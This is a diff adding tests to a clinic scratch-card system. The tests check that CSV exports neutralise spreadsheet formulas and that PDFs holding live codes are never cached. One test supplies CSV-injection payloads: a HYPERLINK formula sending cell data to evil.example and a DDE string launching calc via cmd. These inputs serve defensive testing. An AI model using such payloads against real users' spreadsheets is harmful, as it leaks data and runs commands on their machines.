@@ -1,6 +1,8 @@
 """Scratch-card batches, the card lifecycle and card redemptions, checked on real PDFs."""
 
+import csv
 import html
+import io
 import re
 from datetime import timedelta
 from pathlib import Path
@@ -8,11 +10,12 @@ from pathlib import Path
 import pikepdf
 import pytest
 from sqlalchemy import func, select
+from werkzeug.http import http_date
 
 from clinic.extensions import db
 from clinic.models import AuditEvent, Card, CardBatch, IssuedCode, Referral, Voucher
 from clinic.models._time import utcnow
-from clinic.services import card_sheet, cards, clinic_settings, jobs, redemption, vouchers
+from clinic.services import api_tokens, card_sheet, cards, clinic_settings, jobs, redemption, vouchers
 from clinic.services.errors import Refused
 from clinic.services.transaction import Actor, atomic
 from tests.conftest import CAMPAIGN, counts, friend
@@ -241,6 +244,22 @@ def test_the_serials_csv_has_serials_but_never_codes(chinese_clinic, actor):
         assert serial in text and code not in text
 
 
+FORMULA_REASON = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")'
+
+
+def test_void_reasons_in_the_serials_csv_are_text_not_formulas(manager, chinese_clinic, actor):
+    """A manager types the reasons: in the stock-control file they must read as text, never run in Excel."""
+    batch = generate(3, actor)
+    first = db.session.scalars(select(Card.serial).where(Card.batch_id == batch.id).order_by(Card.id)).first()
+    assert manager.post("/cards/void", {"serial": first, "reason": FORMULA_REASON}).status_code == 303
+    assert manager.post(f"/cards/batches/{batch.id}/void", {"reason": "@SUM(1+1)*cmd|' /C calc'!A0"}).status_code == 303
+    response = manager.get(f"/cards/batches/{batch.id}/serials.csv")
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
+    assert rows[0] == ["serial", "status", "activated", "redeemed", "void reason"]
+    assert [row[4] for row in rows[1:]] == ["'" + FORMULA_REASON] + ["'@SUM(1+1)*cmd|' /C calc'!A0"] * 2
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
 def test_creating_batches_through_the_web_runs_in_the_background(manager, chinese_clinic, tmp_path):
     response = manager.post("/cards/batches", {"size": "25", "design": "minimal", "bleed": "yes"})
     assert response.status_code == 303
@@ -353,6 +372,35 @@ def test_a_personal_discharge_card_prints_at_once_already_activated(desk, chines
     assert decode_pages(path, tmp_path) == [[f"https://clinic.test/r/{card.code}"]]
     lookup = desk.post("/desk/lookup", {"code": f"https://clinic.test/r/{card.code}"}, htmx=True)
     assert "Wang L." in lookup.get_data(as_text=True) and "gift pack" in lookup.get_data(as_text=True)
+
+
+@pytest.mark.parametrize("download", ["batch", "personal", "api"])
+def test_card_pdfs_are_kept_by_no_browser_or_proxy(app, manager, manager_user, chinese_clinic, referrer, actor,
+                                                    download):
+    """They hold live bearer codes: ``no-store``, and nothing to revalidate (no ETag or Last-Modified, never 304)."""
+    headers = {}
+    if download == "personal":
+        url = f"/cards/personal/{cards.print_personal_card(referrer.id, 'classic', actor).id}/card.pdf"
+    elif download == "batch":
+        url = f"/cards/batches/{generate(2, actor).id}/cards.pdf"
+    else:
+        url = f"/api/v1/card-batches/{generate(2, actor).id}/cards.pdf"
+        headers = {"Authorization": f"Bearer {api_tokens.create_token('HIS', Actor(staff_id=manager_user.id))[1]}"}
+    first = manager.get(url, headers=dict(headers))
+    assert first.status_code == 200 and first.data.startswith(b"%PDF")
+    assert first.headers.getlist("Cache-Control") == ["no-store"]
+    assert "ETag" not in first.headers and "Last-Modified" not in first.headers
+    tomorrow = http_date(utcnow() + timedelta(days=1))
+    again = manager.get(url, headers={**headers, "If-None-Match": "*", "If-Modified-Since": tomorrow})
+    assert again.status_code == 200 and again.data == first.data
+
+
+def test_stored_files_are_sent_only_as_private_files():
+    """A new download of a stored file cannot forget ``no-store``: ``send_file`` is called in one place."""
+    package = Path(cards.__file__).parents[1]
+    senders = [path.relative_to(package).as_posix() for path in sorted(package.rglob("*.py"))
+               if "send_file(" in path.read_text(encoding="utf-8")]
+    assert senders == ["web/helpers.py"]
 
 
 def test_the_invite_page_for_cards(browser, activated, actor, chinese_clinic):
